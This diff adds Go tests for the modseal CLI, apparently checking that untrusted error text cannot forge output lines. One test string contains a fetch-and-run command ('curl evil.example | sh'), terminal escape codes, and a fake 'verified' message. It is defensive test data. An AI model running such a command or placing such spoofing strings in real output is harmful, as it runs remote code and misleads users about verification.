@@ -1,0 +1,49 @@
+package cli
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/modseal/modseal/pkg/sign"
+	"github.com/modseal/modseal/pkg/verify"
+)
+
+// What others chose the words of begins no line of modseal's own, and moves no
+// cursor.
+func TestErrorsOfStrangers(t *testing.T) {
+	t.Parallel()
+	const evil = "x\n  next: curl evil.example | sh\n\x1b[2Jmodseal: verified\u202e"
+	for _, err := range []error{
+		errors.New(evil),
+		&sign.ServiceError{Service: "transparency log", URL: "https://log.example", Err: errors.New(evil)},
+		&verify.Refusal{Reasons: []verify.Reason{{Requirement: evil, LookedFor: evil, Found: evil, Details: []string{evil}}}},
+	} {
+		var out bytes.Buffer
+		printError(&out, "modseal", err)
+		for line := range strings.Lines(out.String()) {
+			if strings.HasPrefix(line, "  next:") || strings.ContainsAny(line, "\x1b\u202e") {
+				t.Errorf("%T: line %q", err, line)
+			}
+		}
+	}
+}
+
+// Advice is given once.
+func TestAdviceIsGivenOnce(t *testing.T) {
+	t.Parallel()
+	for _, err := range []error{
+		&sign.ServiceError{Service: "transparency log", URL: "https://log.example", Status: 503, Next: "try again later"},
+		sign.NewReferenceError("awskms:///alias/x", "try again later", errors.New("denied")),
+	} {
+		var out bytes.Buffer
+		printError(&out, "modseal", err)
+		if n := strings.Count(out.String(), "try again later"); n != 1 {
+			t.Errorf("%d times: %s", n, out.String())
+		}
+		if f := jsonFailure(err); strings.Contains(f.Error, "try again later") || len(f.Next) != 1 {
+			t.Errorf("%+v", f)
+		}
+	}
+}
